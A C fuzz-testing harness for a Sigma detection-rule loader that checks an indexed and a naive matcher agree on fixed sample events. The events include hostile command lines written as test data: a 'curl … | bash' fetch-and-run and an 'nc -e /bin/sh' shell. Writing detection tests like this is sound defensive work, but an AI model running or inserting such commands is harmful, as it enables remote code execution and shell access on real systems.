/* Fuzzes the Sigma rule loader: any bytes are loaded as a rule file; then
 * the rules that loaded are compiled into an indexed and a naive matcher
 * and a few fixed events are matched with both. Loading must never crash,
 * every diagnostic must be well formed, and the two matchers must report
 * the same rules in the same order (the index may only skip rules that
 * cannot match). */
#include <errno.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include "sigma/sigma.h"

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);

static const char *const fields[] = {
        "Image", "CommandLine", "ParentImage", "User", "DestinationIp", "DestinationPort", "TargetFilename",
        "CurrentDirectory",
};
static const char *const cats[] = { "process_creation", "network_connection", "file_event" };
static const struct sigma_schema schema = { "linux", fields, 8, cats, 3 };

#define E(s) { s, sizeof(s) - 1 }
static const struct sigma_str events[][8] = {
        { E("/usr/bin/curl"), E("curl -s http://x/a.sh | bash"), E("/bin/bash"), E("root"), { 0 }, { 0 },
          { 0 }, E("/tmp") },
        { E("/bin/sh"), E("sh -c 'echo aGVsbG8= | base64 -d'"), E("/usr/sbin/cron"), E(""), E("10.1.2.3"),
          E("4444"), E("/etc/cron.d/x"), { 0 } },
        { E("/usr/bin/nc"), E("nc -e /bin/sh 1.2.3.4 -l"), { 0 }, E("www-data"), E("fe80::1"), E("22"), { 0 },
          E("/") },
        { E("a"), E("ABC-abc/\xe2\x80\x94x \\ * ?"), E("abc"), E("a"), E("::ffff:127.0.0.1"), E("-1.5"),
          E("abcabc"), E("c") },
};

struct hits {
        const struct sigma_rule *r[256];
        int n;
};

static int on_hit(const struct sigma_rule *r, void *userdata)
{
        struct hits *h = userdata;

        if (h->n < 256)
                h->r[h->n++] = r;
        return 0;
}

static void on_diag(const struct sigma_diag *d, void *userdata)
{
        if (!memchr(d->reason, '\0', sizeof(d->reason)) || !memchr(d->file, '\0', sizeof(d->file)))
                abort();
        if (d->status != SIGMA_LOADED && d->reason[0] == '\0')
                abort();
        ++*(int *)userdata;
}

static void match_all(const struct sigma_ruleset *rs)
{
        struct sigma_matcher *m[2] = { NULL, NULL };
        struct sigma_scratch *s[2] = { NULL, NULL };

        for (int i = 0; i < 2; i++)
                if (sigma_matcher_new(rs, i ? SIGMA_MATCHER_NAIVE : 0, &m[i]) < 0 || sigma_scratch_new(m[i], &s[i]) < 0)
                        goto out;
        for (size_t e = 0; e < sizeof(events) / sizeof(events[0]); e++)
                for (uint32_t c = 0; c < 3; c++) {
                        struct sigma_event ev = { .category = c, .fields = events[e] };
                        struct hits h[2] = { 0 };

                        for (int i = 0; i < 2; i++)
                                if (sigma_matcher_match(m[i], s[i], &ev, on_hit, &h[i]) != h[i].n)
                                        abort();
                        if (h[0].n != h[1].n || memcmp(h[0].r, h[1].r, (size_t)h[0].n * sizeof(h[0].r[0])) != 0)
                                abort();
                }
out:
        for (int i = 0; i < 2; i++) {
                sigma_scratch_free(s[i]);
                sigma_matcher_free(m[i]);
        }
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
        struct sigma_ruleset *rs;
        int diags = 0, r;

        if (sigma_ruleset_new(&schema, &rs) < 0)
                return 0;
        r = sigma_ruleset_add_buffer(rs, "fuzz.yml", (const char *)data, size, on_diag, &diags);
        if (r >= 0 && ((size_t)r != sigma_ruleset_count(rs) || diags < r))
                abort();
        for (size_t i = 0; i < sigma_ruleset_count(rs); i++) {
                const struct sigma_rule *rule = sigma_ruleset_rule(rs, i);

                if (!sigma_rule_title(rule)[0] || sigma_rule_category(rule) >= 3 ||
                    sigma_rule_level(rule) < SIGMA_LEVEL_INFORMATIONAL || sigma_rule_level(rule) > SIGMA_LEVEL_CRITICAL)
                        abort();
        }
        if (sigma_ruleset_count(rs))
                match_all(rs);
        sigma_ruleset_free(rs);
        return 0;
}
